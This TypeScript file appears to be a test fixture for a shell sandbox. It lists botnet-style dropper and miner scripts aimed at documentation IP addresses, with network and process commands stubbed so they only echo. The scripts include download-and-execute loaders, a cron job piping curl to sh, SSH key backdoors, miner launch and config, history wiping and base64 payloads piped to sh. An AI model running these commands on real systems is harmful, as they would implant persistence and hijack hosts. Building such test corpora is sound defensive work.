/**
 * Scripts as loaders and miners leave them, with addresses of documentation. What would reach the network or end
 * processes is a function that says what it was asked, in both shells alike.
 */

const prelude = `wget() { echo "wget $*"; }; curl() { echo "curl $*"; }; tftp() { echo "tftp $*"; }; ftpget() { echo "ftpget $*"; }
pkill() { echo "pkill $*"; }; killall() { echo "killall $*"; }; iptables() { echo "iptables $*"; }; crontab() { cat > /dev/null; echo "crontab $*"; }; nohup() { echo "nohup $*"; }`;

const bodies: readonly string[] = [
  'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.7/bins.sh; curl -O http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh',
  'for a in x86 mips mpsl arm arm5 arm7 ppc sh4; do wget http://198.51.100.7/bins/$a -O .$a; chmod 777 .$a; ./.$a selfrep.$a; rm -f .$a; done',
  'n="mips mipsel arm7 x86_64"; http_server="198.51.100.7"; for i in $n; do cp /bin/echo >/dev/null 2>&1; >b && cd /tmp; curl http://$http_server/b.$i > b 2>/dev/null; chmod 700 b; done; ls',
  '>/tmp/.ptmx && cd /tmp/; >/var/.ptmx && cd /var/; rm -rf .ptmx; pwd',
  "cd /tmp; echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > f; echo -ne '\\x02\\x03' >> f; wc -c < f; rm f",
  "printf '\\177ELF\\002' > d; printf '\\001' >> d; wc -c < d; chmod 777 d; ls d",
  'echo -e "\\x6b\\x61\\x6d\\x69/tmp" > /tmp/.nippon; cat /tmp/.nippon; rm -f /tmp/.nippon',
  'mkdir -p .ssh; echo "ssh-rsa AAAAB3NzaC1yc2E mdrfckr" >> .ssh/authorized_keys; chmod 600 .ssh/authorized_keys; cat .ssh/authorized_keys; ls .ssh',
  'cd ~; rm -rf .ssh; mkdir .ssh; echo "ssh-ed25519 AAAA x">>.ssh/authorized_keys; chmod -R go= ~/.ssh; cd ~; wc -l < .ssh/authorized_keys',
  '(crontab -l 2>/dev/null; echo "* * * * * curl http://198.51.100.7/x | sh") | crontab -',
  'if [ -x "$(command -v curl)" ]; then curl -s http://198.51.100.7/i.sh; elif [ -x "$(command -v wget)" ]; then wget -q -O- http://198.51.100.7/i.sh; else echo none; fi',
  'if type curl >/dev/null 2>&1; then D="curl -sL"; else D="wget -qO-"; fi; $D http://198.51.100.7/a > a; cat a',
  'pool=198.51.100.9:3333; user=${USER:-nobody}; [ $# -gt 0 ] && pool=$1; cat > config.json <<EOF\n{ "url": "$pool", "user": "wallet.$(echo abc | tr a-c A-C)", "keepalive": true }\nEOF\ncat config.json; rm config.json',
  'for p in kinsing kdevtmpfsi xmrig; do pkill -f $p; done; killall -9 xmrig 2>/dev/null; echo $?',
  'iptables -F; iptables -A INPUT -p tcp --dport 23 -j DROP; echo done',
  'ulimit -n 65535 2>/dev/null; export LC_ALL=C HISTFILE=/dev/null; unset HISTSIZE; set +o history 2>/dev/null; echo ${HISTFILE}',
  'download() { u=$1; o=$2; wget -q "$u" -O "$o" || curl -fsSL "$u" -o "$o"; }; for f in a b; do download "http://198.51.100.7/$f" "/tmp/$f" && echo "got $f"; done',
  'VAR=$(echo aGVsbG8= | base64 -d); [ "$VAR" = hello ] && echo decoded "$VAR"',
  'echo ZWNobyBzdGFnZTI= | base64 -d | sh',
  "x=$(printf '%s' 'sj/fuzt' | tr 'b-z' 'a-y'); echo $x",
  'i=0; while [ $i -lt 3 ]; do i=$((i + 1)); [ -e /nonexistent/$i ] || continue; done; echo "tried $i"',
  'case "$(echo armv7l)" in x86_64|amd64) a=x86;; i?86) a=i586;; armv7*) a=arm7;; aarch64) a=arm64;; mips*) a=mips;; *) a=unknown;; esac; echo "arch=$a"',
  'test -d /nonexistent && cd /nonexistent; d=${TMPDIR:-/tmp}; f="$d/.x$((1 + 2))"; echo run > "$f"; cat "$f"; rm -f "$f"',
  'PATH=$PATH:/usr/local/bin; export PATH; cd /tmp; for d in /tmp /var/tmp /nonexistent; do [ -w $d ] && echo "w $d"; done',
  'trap "rm -f lock; echo cleaned" EXIT; touch lock; ls lock; nohup ./miner -o 198.51.100.9:3333 --donate-level 1 >/dev/null 2>&1 & wait; echo started',
  'cat > s.sh <<"E"\n#!/bin/sh\nfor i in 1 2; do echo "stage $i $1"; done\nE\nchmod +x s.sh; ./s.sh x; sh s.sh y; rm s.sh',
  'echo "root:x" | while IFS=: read u p; do echo "user=$u pass=$p"; done; IFS=" "; set -- a b; echo "$*"',
  'grep -q nosuch /dev/null || echo absent; [ $(echo "a b c" | wc -w) -eq 3 ] && echo three',
  'rm -rf /tmp/* /var/tmp/* 2>/dev/null; cd /tmp; touch .a b; ls; rm -f .a b; history -c 2>/dev/null; echo end',
  './nosuchbinary 198.51.100.7 && echo ok || echo failed; /bin/nosuch 2>/dev/null || echo again',
];

export const droppers: readonly string[] = bodies.map((body) => `${prelude}\n${body}`);
